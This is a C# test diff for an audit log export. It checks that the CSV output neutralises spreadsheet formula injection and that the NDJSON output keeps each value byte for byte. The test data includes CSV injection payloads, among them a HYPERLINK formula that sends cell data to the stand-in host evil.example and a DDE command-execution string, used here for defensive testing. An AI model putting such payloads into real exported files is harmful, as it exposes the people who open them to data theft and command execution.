@@ -1,6 +1,7 @@
 using System.Diagnostics;
 using System.Net.Http.Headers;
 using System.Text;
+using System.Text.RegularExpressions;
 using System.Text.Json.Nodes;
 using Alba;
 using Xunit.Abstractions;
@@ -47,6 +48,41 @@ public sealed class when_exporting_the_audit_log(AppFixture app, ITestOutputHelp
         Assert.Equal("1", transition[4]);
         Assert.Equal("version 1: None → Staging", transition[10]);
         Assert.True(DateTimeOffset.TryParse(transition[1], out _));
+    }
+
+    /// <summary>Cells a spreadsheet would run as formulas (issue 13, item 7), each with the value it must keep.</summary>
+    private static readonly string[] FormulaReasons =
+    [
+        "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)", "\t=1+1", "\r=1+1",
+        "'=already quoted", "''@twice", "'plain", "a=1 is fine",
+    ];
+
+    [Fact]
+    public async Task csv_neutralises_formulas_in_text_cells_and_ndjson_keeps_every_value_byte_for_byte()
+    {
+        await Host.RegisterModel("churn");
+        await Host.RegisterVersion("churn");
+        var stage = "Staging";
+        foreach (var reason in FormulaReasons)
+        {
+            var moved = await Host.Promote("churn", 1, stage, reason: reason,
+                headers: new Dictionary<string, string> { ["X-Correlation-Id"] = "=1+" + reason.Length });
+            Assert.Equal(200, moved.Status);
+            stage = stage == "Staging" ? "None" : "Staging";
+        }
+        await Store.WaitForAuditTrail();
+
+        var csv = ParseCsv((await Export("text/csv")).Text).Skip(1).Where(r => r[5] == "ModelVersionStageTransitioned").ToList();
+        var ndjson = (await Export("application/x-ndjson")).Text.Split('\n', StringSplitOptions.RemoveEmptyEntries)
+            .Select(l => JsonNode.Parse(l)!).Where(l => l["eventType"]!.GetValue<string>() == "ModelVersionStageTransitioned").ToList();
+
+        Assert.Equal(FormulaReasons.Take(6).Select(r => "'" + r).Concat(["''=already quoted", "'''@twice", "'plain", "a=1 is fine"]),
+            csv.Select(r => r[7]));
+        Assert.Equal(FormulaReasons.Select(r => "'=1+" + r.Length), csv.Select(r => r[8]));
+        Assert.Equal(FormulaReasons, ndjson.Select(l => l["reason"]!.GetValue<string>()));
+        Assert.Equal(FormulaReasons.Select(r => "=1+" + r.Length), ndjson.Select(l => l["correlationId"]!.GetValue<string>()));
+        // Undoing the rule (one ' off a cell of 's before a formula character) gives back every value exactly.
+        Assert.Equal(FormulaReasons, csv.Select(r => Regex.IsMatch(r[7], "^'+[=+\\-@\t\r]") ? r[7][1..] : r[7]));
     }
 
     [Fact]
